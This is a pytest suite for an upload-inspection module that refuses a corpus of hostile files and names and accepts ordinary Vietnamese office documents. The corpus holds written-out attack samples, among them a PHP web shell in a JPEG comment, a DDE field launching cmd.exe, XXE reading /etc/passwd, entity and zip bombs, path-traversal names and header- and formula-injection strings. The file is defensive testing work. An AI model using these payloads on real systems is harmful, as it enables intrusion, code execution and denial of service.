"""Uploaded files: a corpus of hostile ones is refused or inert, and what an office really sends is accepted."""

from __future__ import annotations

import base64
import contextlib
import functools
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import asdict

import docx
import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from caseflow.gateways.inspection import LIMITS, UnsafeFile, inspect, kind_of
from caseflow.gateways.inspection import look as looked_through
from caseflow.gateways.names import clean_name, content_disposition
from tests.support.files import make_docx, make_jpg, make_pdf, make_png, make_xlsx

PDF, DOCX, XLSX, JPG, PNG = make_pdf(), make_docx(), make_xlsx(), make_jpg(), make_png()
HTML = b"<html><script>alert(document.domain)</script></html>"
EXE = b"MZ" + b"\x90" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as package:
        for name, data in members.items():
            package.writestr(name, data)
    return stream.getvalue()


ZIP = zipped({"a.txt": b"hello"})


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A small PDF of these objects after its catalogue, with a true cross-reference table."""
    result, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(
        (b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>", *objects)
    ):
        offsets.append(len(result))
        result += b"%d 0 obj\n%s\nendobj\n" % (number + 1, content)
    at = len(result)
    result += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    result += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    result += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(offsets) + 1, trailer, at)
    return bytes(result)


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


HIDDEN = b"9 0 " + SCRIPT
PACKED = zlib.compress(HIDDEN)


def changed(package: bytes, **members: bytes) -> bytes:
    """The package with members replaced or added; `__` in a name stands for `/`, `_dot_` for a dot."""
    with zipfile.ZipFile(io.BytesIO(package)) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    parts.update({name.replace("__", "/").replace("_dot_", "."): data for name, data in members.items()})
    return zipped(parts)


def edited(package: bytes, member: str, old: bytes, new: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        data = source.read(member)
    assert old in data
    return changed(package, **{member.replace("/", "__"): data.replace(old, new, 1)})


def related(package: bytes, kind: str, target: str, rels: str = "word/_rels/document.xml.rels") -> bytes:
    relation = f'<Relationship Id="rIdX" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    return edited(package, rels, b"</Relationships>", relation.encode() + b"</Relationships>")


def field(*runs: str) -> bytes:
    texts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    return edited(DOCX, "word/document.xml", b"<w:p>", f"{begin}{texts}</w:p><w:p>".encode())


def many(first: Callable[[zipfile.ZipFile], None]) -> bytes:
    """The document with members written by `first` in ways `zipped` cannot."""
    target = io.BytesIO(DOCX)
    with zipfile.ZipFile(target, "a") as package:
        first(package)
    return target.getvalue()


def symlink(package: zipfile.ZipFile) -> None:
    link = zipfile.ZipInfo("word/media/link.png")
    link.external_attr = 0o120777 << 16
    package.writestr(link, "/etc/passwd")


def twice(package: zipfile.ZipFile) -> None:
    package.writestr("WORD/document.xml", b"<a/>")


def encrypted() -> bytes:
    """Every member marked as encrypted, in the local headers and in the directory."""
    data = bytearray(DOCX)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(signature), DOCX):
            data[found.start() + offset] |= 1
    return bytes(data)


def overlapping() -> bytes:
    """A directory whose many entries all unpack the same bytes."""
    data = zipped({"[Content_Types].xml": b"\x00" * 900_000})
    (directory,) = [m.start() for m in re.finditer(re.escape(b"PK\x01\x02"), data)]
    end = data.rfind(b"PK\x05\x06")
    entry, copies = data[directory:end], 60
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, copies, copies, len(entry) * copies, directory, 0)
    return data[:directory] + entry * copies + tail


ENTITIES = b'<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]><b>&b;</b>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a SYSTEM "file:///etc/passwd">]><b>&a;</b>'


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int) -> bytes:
    """A picture of a few bytes that claims to be huge."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 99)) + chunk(b"IEND", b"")
    )


def jpg_of(width: int, height: int) -> bytes:
    return re.sub(
        rb"(\xff\xc0\x00\x11\x08).{4}",
        lambda m: m[1] + struct.pack(">HH", height, width),
        JPG,
        count=1,
        flags=re.DOTALL,
    )


def saved(picture: Image.Image, form: str, **options) -> bytes:
    target = io.BytesIO()
    picture.save(target, form, **options)
    return target.getvalue()


def with_text(text: bytes) -> bytes:
    note = PngInfo()
    note.add_text("Comment", text.decode())
    return saved(Image.new("RGB", (8, 8)), "PNG", pnginfo=note)


def text_bomb() -> bytes:
    bomb = b"Comment\x00\x00" + zlib.compress(b"a" * 100_000_000, 9)
    return PNG[:33] + chunk(b"zTXt", bomb) + PNG[33:]


def with_vba(package: bytes) -> bytes:
    return edited(package, "[Content_Types].xml", b"document.main+xml", b"document.macroEnabled.main+xml")


HOSTILE: dict[str, tuple[str, bytes]] = {
    # PDF: not one, not whole, more than one
    "html named pdf": ("a.pdf", HTML),
    "html before pdf": ("a.pdf", HTML + PDF),
    "html in the head of a pdf": ("a.pdf", PDF.replace(b"\n", b"\n%" + HTML + b"\n", 1)),
    "html after pdf": ("a.pdf", PDF + HTML),
    "zip after pdf": ("a.pdf", PDF + ZIP),
    "pdf whose end is a zip comment": ("a.pdf", PDF + ZIP[:-2] + b"\x06\x00%%EOF\n"),
    "two kilobytes after pdf": ("a.pdf", PDF + b"\n" * 2048),
    "half a pdf": ("a.pdf", PDF[: len(PDF) // 2]),
    "pdf without end": ("a.pdf", PDF.replace(b"%%EOF", b"")),
    "only a pdf header": ("a.pdf", b"%PDF-1.7\n%%EOF"),
    "program named pdf": ("a.pdf", EXE),
    "postscript named pdf": ("a.pdf", b"%!PS-Adobe-3.0\n(%PDF-1.4) run\n%%EOF"),
    "docx named pdf": ("a.pdf", DOCX),
    "empty": ("a.pdf", b""),
    # PDF: active
    "pdf with JS": ("a.pdf", pdf(b"<< /JS (app.alert\\(1\\)) >>")),
    "pdf opening with a script": ("a.pdf", pdf(SCRIPT, trailer=b"/OpenAction 3 0 R")),
    "pdf with escaped JavaScript": ("a.pdf", pdf(b"<< /S /J#61v#61Script /J#53 (x) >>")),
    "pdf with Launch": ("a.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")),
    "pdf with attachment": ("a.pdf", pdf(stream(b"/Type /EmbeddedFile", EXE))),
    "pdf with rich media": ("a.pdf", pdf(b"<< /Subtype /RichMedia >>")),
    "pdf with a dynamic form": ("a.pdf", pdf(b"<< /XFA [(template) 4 0 R] >>")),
    "pdf going to an embedded file": ("a.pdf", pdf(b"<< /S /GoToE >>")),
    "pdf with a password": ("a.pdf", pdf(trailer=b"/Encrypt << /Filter /Standard >>")),
    # PDF: hidden
    "script in an object stream": ("a.pdf", pdf(stream(b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", PACKED))),
    "script in a plain object stream": ("a.pdf", pdf(stream(b"/Type /ObjStm /N 1 /First 4", HIDDEN))),
    "script in an object stream that says picture": (
        "a.pdf",
        pdf(stream(b"/Subtype /Image /Filter /FlateDecode", PACKED)),
    ),
    "script under ASCII85": ("a.pdf", pdf(stream(b"/Type /ObjStm", base64.a85encode(PACKED) + b"~>"))),
    "script under hexadecimal": ("a.pdf", pdf(stream(b"/Subtype /Image", PACKED.hex().encode() + b">"))),
    "script packed twice": ("a.pdf", pdf(stream(b"/Type /ObjStm", zlib.compress(PACKED)))),
    "script before damage": ("a.pdf", pdf(stream(b"/Type /ObjStm", zlib.compress(HIDDEN + b" " * 9000, 0)[:-40]))),
    "object stream with a predictor": ("a.pdf", pdf(stream(b"/Type /ObjStm /DecodeParms << /Predictor 12 >>", PACKED))),
    "object stream under LZW": ("a.pdf", pdf(stream(b"/Type /ObjStm /Filter /LZWDecode", b"\x80\x0b\x60\x50"))),
    "object stream that is a bomb": ("a.pdf", pdf(stream(b"/Type /ObjStm", zlib.compress(b"1 0 " * 20_000_000, 9)))),
    "script behind a false stream": ("a.pdf", pdf(b"(stream\n)", SCRIPT, b"(endstream)")),
    # Office: not one, not whole, more than one
    "zip named docx": ("a.docx", ZIP),
    "docx named xlsx": ("a.xlsx", DOCX),
    "xlsx named docx": ("a.docx", XLSX),
    "old doc named docx": ("a.docx", OLE),
    "html named xlsx": ("a.xlsx", HTML),
    "program before docx": ("a.docx", EXE + DOCX),
    "html after docx": ("a.docx", DOCX + HTML),
    "docx with a comment of html": ("a.docx", DOCX[:-2] + struct.pack("<H", len(HTML)) + HTML),
    "half a docx": ("a.docx", DOCX[: len(DOCX) // 2]),
    "docx with a wrong checksum": ("a.docx", DOCX[:60] + bytes([DOCX[60] ^ 1]) + DOCX[61:]),
    "docx with a password": ("a.docx", encrypted()),
    "docx without its text": ("a.docx", zipped({"[Content_Types].xml": b"<Types/>"})),
    # Office: bombs
    "zip bomb in docx": ("a.docx", changed(DOCX, word__bomb_dot_xml=b"<a>" + b" " * 30_000_000 + b"</a>")),
    "200 MB in docx": ("a.docx", changed(DOCX, **{f"word__b{n}_dot_xml": b"ab" * 13_000_000 for n in range(5)})),
    "2,001 members": ("a.docx", changed(DOCX, **{f"word__m{n}_dot_xml": b"<a/>" for n in range(2_001)})),
    "overlapping members": ("a.docx", overlapping()),
    "entity bomb": ("a.docx", changed(DOCX, word__document_dot_xml=ENTITIES)),
    "outside entity": ("a.xlsx", changed(XLSX, xl__workbook_dot_xml=OUTSIDE)),
    "entity bomb in UTF-16": ("a.docx", changed(DOCX, customXml__i_dot_xml=ENTITIES.decode().encode("utf-16"))),
    "entity bomb in a drawing": ("a.docx", changed(DOCX, word__d_dot_vml=ENTITIES)),
    "text that is no XML": ("a.docx", changed(DOCX, word__document_dot_xml=b"<a><b></a>")),
    # Office: members
    "member that climbs": ("a.docx", changed(DOCX, **{".." + "__.." + "__evil_dot_xml": b"<a/>"})),
    "member from the root": ("a.docx", changed(DOCX, __etc__evil_dot_xml=b"<a/>")),
    "member with a backslash": ("a.docx", changed(DOCX, **{"word\\evil.xml": b"<a/>"})),
    "member with a drive": ("a.docx", changed(DOCX, **{"C:evil.xml": b"<a/>"})),
    "member twice": ("a.docx", many(twice)),
    "member that is a link": ("a.docx", many(symlink)),
    "member packed otherwise": ("a.docx", zipped({"[Content_Types].xml": b"<Types/>"}, zipfile.ZIP_LZMA)),
    "program in docx": ("a.docx", changed(DOCX, word__media__a_dot_exe=EXE)),
    "program named as a picture in docx": ("a.docx", changed(DOCX, word__media__a_dot_png=EXE)),
    "old document as a picture in xlsx": ("a.xlsx", changed(XLSX, xl__media__a_dot_emf=OLE)),
    # Office: active
    "macro docx": ("a.docx", changed(DOCX, word__vbaProject_dot_bin=OLE)),
    "macro docx renamed": ("a.docx", with_vba(DOCX)),
    "macro xlsx": ("a.xlsx", changed(XLSX, xl__vbaProject_dot_bin=OLE)),
    "macro sheet": ("a.xlsx", changed(XLSX, xl__macrosheets__sheet1_dot_xml=b"<a/>")),
    "embedded object": ("a.docx", changed(DOCX, word__embeddings__oleObject1_dot_bin=OLE)),
    "embedded workbook": ("a.docx", changed(DOCX, word__embeddings__Book1_dot_xlsx=XLSX)),
    "activeX": ("a.docx", changed(DOCX, word__activeX__activeX1_dot_xml=b"<a/>")),
    "external template": ("a.docx", related(DOCX, "attachedTemplate", "https://evil.example/t.dotm")),
    "external picture": ("a.docx", related(DOCX, "image", "https://evil.example/track.png")),
    "picture on a share": ("a.docx", related(DOCX, "image", "\\\\evil.example\\share\\a.png")),
    "link to a local file": ("a.docx", related(DOCX, "hyperlink", "file:///c:/windows/system32/calc.exe")),
    "imported page": ("a.docx", related(DOCX, "aFChunk", "page.html")),
    "external workbook": ("a.xlsx", related(XLSX, "externalLinkPath", "a.xlsx", "xl/_rels/workbook.xml.rels")),
    "DDE field": ("a.docx", field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    "DDE field in pieces": ("a.docx", field(" D", "DE", "AUTO cmd")),
    "fetching field": ("a.docx", field(' INCLUDEPICTURE "https://evil.example/a.png"')),
    "DDE link in xlsx": (
        "a.xlsx",
        changed(XLSX, xl__links_dot_xml=b'<x:a xmlns:x="x"><x:ddeLink ddeService="cmd"/></x:a>'),
    ),
    # Pictures
    "svg": ("a.svg", SVG),
    "svg named png": ("a.png", SVG),
    "html named jpg": ("a.jpg", HTML),
    "gif named png": ("a.png", saved(Image.new("P", (4, 4)), "GIF")),
    "png named jpg": ("a.jpg", PNG),
    "jpg named png": ("a.png", JPG),
    "zip after jpg": ("a.jpg", JPG + ZIP),
    "zip after png": ("a.png", PNG + ZIP),
    "html after jpg": ("a.jpg", JPG + HTML),
    "html after png": ("a.png", PNG + HTML),
    "program after jpg": ("a.jpg", JPG + EXE),
    "pdf after jpg": ("a.jpg", JPG + pdf()),
    "film after jpg": ("a.jpg", JPG + b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 4000),
    "php in a jpg comment": ("a.jpg", saved(Image.new("RGB", (8, 8)), "JPEG", comment=b"<?php system($_GET[0]); ?>")),
    "pdf in a jpg comment": ("a.jpg", saved(Image.new("RGB", (8, 8)), "JPEG", comment=pdf(SCRIPT))),
    "html in a png comment": ("a.png", with_text(HTML)),
    "pixel bomb png": ("a.png", png_of(60_000, 60_000)),
    "pixel bomb jpg": ("a.jpg", jpg_of(60_000, 60_000)),
    "one row too many": ("a.png", png_of(8_000, 5_001)),
    "text bomb png": ("a.png", text_bomb()),
    "half a jpg": ("a.jpg", JPG[: len(JPG) // 2]),
    "half a png": ("a.png", PNG[: len(PNG) // 2]),
    "png with a wrong checksum": ("a.png", PNG[:50] + bytes([PNG[50] ^ 1]) + PNG[51:]),
    "png that claims more than it has": ("a.png", png_of(100, 100)),
    # Names
    "two extensions": ("hoa-don.html.pdf", PDF),
    "program by name": ("hoa-don.pdf.exe", PDF),
    "program after a NUL": ("hoa-don.pdf\x00.exe", PDF),
    "program before a NUL": ("hoa-don.exe\x00.pdf", PDF),
    "macro document by name": ("a.docm", DOCX),
    "no extension": ("pdf", PDF),
    "only an extension": (".pdf", PDF),
    "a dot too many": ("a.pdf.php.", PDF),
}

HOSTILE_NAMES = [
    "../../../etc/cron.d/job.pdf",
    "..\\..\\windows\\system32\\job.pdf",
    "/etc/passwd.pdf",
    "C:\\boot.pdf",
    "\\\\server\\share\\a.pdf",
    "a\r\nSet-Cookie: session=1\r\n.pdf",
    'a"; filename="evil.html";.pdf',
    "a'; filename*=UTF-8''evil.html;.pdf",
    "\u202efdp.a.pdf",
    "a\u200b\ufeff\u2066.pdf",
    "CON.pdf",
    "lpt1.pdf",
    "-rf.pdf",
    "=cmd|' /C calc'!A0.pdf",
    "<img src=x onerror=alert(1)>.pdf",
    "{{7*7}}${7*7}%(x)s.pdf",
    "\U0001f4c4" * 300 + ".pdf",
    "Z\u0351\u036b\u0343" * 99 + ".pdf",
]


@pytest.fixture
def look(tmp_path):
    """Inspects bytes under a name."""

    def look(name: str, data: bytes) -> str:
        (tmp_path / "upload").write_bytes(data)
        return inspect(tmp_path / "upload", name)

    return look


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_with_words_in_both_languages(look, case: str):
    with pytest.raises(UnsafeFile) as caught:
        look(*HOSTILE[case])
    assert caught.value.message("vi") != caught.value.message("en")


@pytest.mark.parametrize("raw", HOSTILE_NAMES)
def test_a_hostile_name_becomes_inert(look, raw: str):
    assert look(raw, PDF) == "pdf"
    name, header = clean_name(raw), content_disposition(raw)
    assert name.isprintable()
    assert name.endswith(".pdf")
    assert not set(name) & set('/\\<>:"|?*')
    assert header.startswith('attachment; filename="')
    assert header.isprintable()
    assert header.count('"') == 2
    assert header.count(";") == 2


GENUINE = {
    "scan": ("Đơn đề nghị hỗ trợ (bản ký).pdf", make_pdf("Đơn đề nghị", pages=3), "pdf"),
    "pdf made of text": (
        "Quy trình.pdf",
        pdf(stream(b"/Filter /FlateDecode", zlib.compress(b"0 0 m BT (Hi) Tj ET"))),
        "pdf",
    ),
    "pdf opening at a page": ("Trang.pdf", pdf(trailer=b"/OpenAction [2 0 R /Fit]"), "pdf"),
    "pdf with object streams": (
        "Mục lục.pdf",
        pdf(stream(b"/Type /ObjStm /N 1 /First 4", zlib.compress(b"9 0 << /A /B >>"))),
        "pdf",
    ),
    "pdf with ASCII85": ("Báo giá.pdf", pdf(stream(b"", base64.a85encode(zlib.compress(b"BT ET")) + b"~>")), "pdf"),
    "pdf saved twice": ("Sửa đổi.pdf", pdf() + b"9 0 obj\n<< >>\nendobj\nstartxref\n9\n%%EOF\r\n", "pdf"),
    "docx packed again": ("a.docx", changed(DOCX), "docx"),
    "xlsx packed again": ("a.xlsx", changed(XLSX), "xlsx"),
    "docx": ("Thuyết minh nhiệm vụ.docx", DOCX, "docx"),
    "xlsx": ("Dự toán kinh phí.XLSX", XLSX, "xlsx"),
    "jpg": ("Ảnh nhà xưởng.jpg", JPG, "jpg"),
    "jpeg": ("Ảnh 1.2.JPEG", JPG, "jpg"),
    "png": ("Sơ đồ tổ chức.png", PNG, "png"),
    "gradual grey jpg": ("a.jpg", saved(Image.new("L", (64, 64)), "JPEG", progressive=True), "jpg"),
    "cmyk jpg": ("a.jpg", saved(Image.new("CMYK", (64, 64)), "JPEG"), "jpg"),
    "jpg with a note of the camera": ("a.jpg", JPG + b"\x00\x00SEFH" + b"\x00" * 100 + b"SEFT", "jpg"),
    "jpg with a second view": ("a.jpg", JPG + JPG, "jpg"),
    "palette png": ("a.png", saved(Image.new("P", (64, 64)), "PNG"), "png"),
    "clear png": ("a.png", saved(Image.new("RGBA", (64, 64)), "PNG"), "png"),
    "40 million pixels": ("a.png", saved(Image.new("1", (8_000, 5_000)), "PNG"), "png"),
}


@pytest.mark.parametrize("case", GENUINE)
def test_a_genuine_file_is_accepted_and_its_vietnamese_name_kept(look, case: str):
    name, data, kind = GENUINE[case]
    assert look(name, data) == kind
    assert clean_name(name) == name


def test_a_document_with_a_link_a_field_and_settings_of_a_printer_is_accepted(look):
    linked = related(DOCX, "hyperlink", "https://dichvucong.gov.vn/link?a=1")
    assert look("a.docx", linked) == "docx"
    assert look("a.docx", field(' HYPERLINK "https://a.example/dde link" ')) == "docx"
    assert look("a.xlsx", changed(XLSX, xl__printerSettings__printerSettings1_dot_bin=b"\x00" * 40)) == "xlsx"


def test_a_workbook_with_formulas_a_chart_and_a_comment_is_accepted(look):
    book = openpyxl.Workbook()
    for n in range(500):
        book.active.append([n, f"=A{n + 1}*2", "Hạng mục lặp lại"])
    chart = openpyxl.chart.BarChart()
    chart.add_data(openpyxl.chart.Reference(book.active, min_col=1, min_row=1, max_row=9))
    book.active.add_chart(chart, "E2")
    book.active["A1"].comment = openpyxl.comments.Comment("Ghi chú", "Phòng")
    target = io.BytesIO()
    book.save(target)
    assert look("Dự toán.xlsx", target.getvalue()) == "xlsx"


def test_a_long_report_is_accepted(look):
    report = docx.Document()
    for _ in range(2_000):
        report.add_paragraph("Báo cáo tiến độ thực hiện nhiệm vụ, số liệu lặp lại nhiều lần.")
    report.sections[0].header.paragraphs[0].text = "Sở"
    target = io.BytesIO()
    report.save(target)
    assert look("Báo cáo.docx", target.getvalue()) == "docx"


def test_the_corpus_is_large_and_the_table_of_limits_is_the_published_one():
    assert len(HOSTILE) + len(HOSTILE_NAMES) >= 50
    assert (LIMITS.members, LIMITS.unpacked_bytes, LIMITS.ratio) == (2_000, 100 * 1024 * 1024, 100)
    assert (LIMITS.pdf_trailing_bytes, LIMITS.pixels) == (1024, 40_000_000)


@pytest.mark.parametrize("filler", [b"1", b" ", b"1 ", b"(", b"%", b"/#41", b"1 0 ", b"obj ", b"\x00", b"<<"])
def test_a_file_of_one_thing_repeated_takes_no_longer_than_any_other(look, filler: bytes):
    assert look("a.pdf", pdf(filler * (2_000_000 // len(filler)))) == "pdf"


BASES = [("a.pdf", pdf(SCRIPT[:20], stream(b"/Type /ObjStm /N 1 /First 4", zlib.compress(b"9 0 << /A /B >>"))))]
BASES += [("a.docx", DOCX), ("a.xlsx", XLSX), ("a.jpg", make_jpg(16, 16)), ("a.png", make_png(16, 16))]


# Pillow warns of a broken EXIF block and goes on: harmless, nothing of it is shown.
@pytest.mark.filterwarnings("ignore:Corrupt EXIF data:UserWarning")
@settings(max_examples=300, deadline=None)
@given(st.sampled_from(BASES), st.lists(st.tuples(st.floats(0, 1), st.binary(max_size=6)), min_size=1, max_size=6))
def test_damage_of_any_kind_is_refused_or_harmless_never_an_accident(tmp_path_factory, base, damage):
    name, data = base
    broken = functools.reduce(lambda d, hit: d[: (at := int(hit[0] * len(d)))] + hit[1] + d[at + 2 :], damage, data)
    path = tmp_path_factory.getbasetemp() / "damaged"
    path.write_bytes(broken)
    with contextlib.suppress(UnsafeFile):
        looked_through(path, kind_of(name), asdict(LIMITS))  # what a child does, here without one
